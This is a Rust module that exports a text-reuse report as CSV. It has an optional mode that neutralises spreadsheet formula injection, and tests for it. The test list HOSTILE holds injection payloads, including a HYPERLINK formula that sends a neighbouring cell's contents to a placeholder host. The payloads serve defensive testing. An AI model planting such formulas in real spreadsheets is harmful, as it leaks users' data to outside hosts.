//! Tables for spreadsheets and data frames: who is in which group, and what text is shared where. Cells as RFC 4180 has
//! them, rows with line feeds, UTF-8; an absent value is an empty cell.
//!
//! A spreadsheet runs a cell that looks like a formula, and headlines, outlets and ids are other people's text. A program
//! that reads the table wants them as they are, so [`CsvCells`] says which of the two it is written for.

use super::model::Report;
use super::phrase;
use std::borrow::Cow;
use std::collections::BTreeSet;
use std::io::{self, Write};

/// Whom the cells are written for.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub enum CsvCells {
    /// For programs: what an article says, unchanged. A spreadsheet may take some of it for a formula.
    #[default]
    AsIs,
    /// For spreadsheets: a `'` stands before each cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return, by
    /// which they show it as text.
    Safe,
}

impl CsvCells {
    fn cell(self, text: &str) -> Cow<'_, str> {
        match self {
            Self::Safe if text.starts_with(['=', '+', '-', '@', '\t', '\r']) => {
                Cow::Owned(format!("'{text}"))
            }
            Self::Safe | Self::AsIs => Cow::Borrowed(text),
        }
    }
}

/// A table that is being written.
struct Table<'a> {
    writer: csv::Writer<&'a mut dyn Write>,
    cells: CsvCells,
}

impl<'a> Table<'a> {
    fn new<const N: usize>(columns: [&str; N], cells: CsvCells, out: &'a mut dyn Write) -> io::Result<Self> {
        let mut table = Self { writer: csv::Writer::from_writer(out), cells };
        table.row(columns)?;
        Ok(table)
    }

    fn row<const N: usize>(&mut self, row: [&str; N]) -> io::Result<()> {
        Ok(self
            .writer
            .write_record(row.map(|text| self.cells.cell(text)).iter().map(|cell| cell.as_bytes()))?)
    }

    fn finish(mut self) -> io::Result<()> {
        self.writer.flush()
    }
}

/// The columns of the table of articles.
const ARTICLES: [&str; 17] = [
    "id",
    "document",
    "article",
    "kind",
    "first_line",
    "last_line",
    "title",
    "published",
    "lang",
    "source",
    "words",
    "copies",
    "story",
    "storyline",
    "representative",
    "coverage",
    "words_only_here",
];

/// The columns of the table of passages.
const PASSAGES: [&str; 10] =
    ["passage", "kind", "words", "reused", "article", "start", "end", "first_line", "last_line", "text"];

/// Writes one row an article, in the order of the report.
pub fn render(report: &Report, cells: CsvCells, out: &mut dyn Write) -> io::Result<()> {
    let mut table = Table::new(ARTICLES, cells, out)?;
    for article in &report.articles {
        let published = article.published.map(|time| time.to_string()).unwrap_or_default();
        let lang = article.lang.map(|lang| lang.to_string()).unwrap_or_default();
        table.row([
            &*article.id,
            &*article.document,
            &article.number.to_string(),
            &article.kind.to_string(),
            &article.lines.first.to_string(),
            &article.lines.last.to_string(),
            article.title.as_deref().unwrap_or_default(),
            &published,
            &lang,
            article.source.as_deref().unwrap_or_default(),
            &article.words.to_string(),
            article.copies.as_deref().unwrap_or_default(),
            article.story.as_deref().unwrap_or_default(),
            article.storyline.as_deref().unwrap_or_default(),
            &article.representative.to_string(),
            &article.coverage.to_string(),
            &article.words_only_here().to_string(),
        ])?;
    }
    table.finish()
}

/// Writes one row for each place of each passage, in the order of the report.
pub fn render_passages(report: &Report, cells: CsvCells, out: &mut dyn Write) -> io::Result<()> {
    let mut table = Table::new(PASSAGES, cells, out)?;
    let reused: BTreeSet<&str> = report.reused.iter().map(|id| &**id).collect();
    for passage in &report.passages {
        let is_reused = reused.contains(&*passage.id).to_string();
        for place in &passage.occurrences {
            table.row([
                &*passage.id,
                phrase::passage_kind(passage.kind),
                &passage.words.to_string(),
                &is_reused,
                &*place.article,
                &place.span.start.to_string(),
                &place.span.end.to_string(),
                &place.lines.first.to_string(),
                &place.lines.last.to_string(),
                place.text.as_deref().unwrap_or(&passage.text),
            ])?;
        }
    }
    table.finish()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::report::{golden, sample};

    type Render = fn(&Report, CsvCells, &mut dyn Write) -> io::Result<()>;

    fn written(report: &Report, cells: CsvCells, render: Render) -> String {
        let mut out = Vec::new();
        render(report, cells, &mut out).unwrap();
        String::from_utf8(out).unwrap()
    }

    fn rendered(render: Render) -> String {
        written(&sample::report(), CsvCells::AsIs, render)
    }

    fn cells(text: &str) -> Vec<String> {
        let rows = csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes()).into_records();
        rows.flat_map(|row| row.unwrap().iter().map(str::to_owned).collect::<Vec<_>>()).collect()
    }

    /// What spreadsheets take for a formula, a link that sends what stands beside it, and cells that only look like those.
    const HOSTILE: [&str; 9] = [
        "=1+1",
        "=HYPERLINK(\"http://example.org/?\"&A1,\"x\")",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "=\"a\nb\",c",
        "-\u{202e}x",
    ];

    #[test]
    fn safe_cells_hold_no_formula_and_nothing_else_is_changed() {
        for hostile in HOSTILE {
            let report = sample::poisoned_report(hostile);
            for render in [render as Render, render_passages as Render] {
                let [as_is, safe] =
                    [CsvCells::AsIs, CsvCells::Safe].map(|kind| cells(&written(&report, kind, render)));
                assert!(as_is.iter().any(|cell| cell.starts_with(hostile)), "{hostile:?} is nowhere");
                assert_eq!(as_is.len(), safe.len());
                for (before, after) in as_is.iter().zip(&safe) {
                    let acts = before.starts_with(['=', '+', '-', '@', '\t', '\r']);
                    let wanted = if acts { format!("'{before}") } else { before.clone() };
                    assert_eq!(*after, wanted);
                }
            }
        }
    }

    #[test]
    fn a_sign_inside_of_a_cell_is_no_formula() {
        for harmless in ["1=1", "a@b", "'=1", " =1", "", "٣-١", "—1"] {
            assert_eq!(CsvCells::Safe.cell(harmless), harmless);
        }
    }

    #[test]
    fn the_sample_looks_as_it_did() {
        golden::compare("report/articles.csv", &rendered(render));
        golden::compare("report/passages.csv", &rendered(render_passages));
    }

    #[test]
    fn every_row_is_read_back_as_it_was_said() {
        let (articles, passages) = (rendered(render), rendered(render_passages));
        let report = sample::report();
        let rows = |text: &str| {
            csv::Reader::from_reader(text.as_bytes()).into_records().map(Result::unwrap).collect()
        };
        let articles: Vec<csv::StringRecord> = rows(&articles);
        assert_eq!(articles.len(), report.articles.len());
        for (row, article) in articles.iter().zip(&report.articles) {
            assert_eq!((&row[0], &row[6]), (&*article.id, article.title.as_deref().unwrap_or_default()));
        }
        let places: Vec<csv::StringRecord> = rows(&passages);
        let wanted =
            report.passages.iter().flat_map(|it| it.occurrences.iter().map(move |place| (it, place)));
        for (row, (passage, place)) in places.iter().zip(wanted.clone()) {
            assert_eq!((&row[0], &row[4]), (&*passage.id, &*place.article));
            assert_eq!(&row[3], report.reused.contains(&passage.id).to_string());
            assert_eq!(&row[9], place.text.as_deref().unwrap_or(&passage.text));
        }
        assert_eq!(places.len(), wanted.count());
    }
}
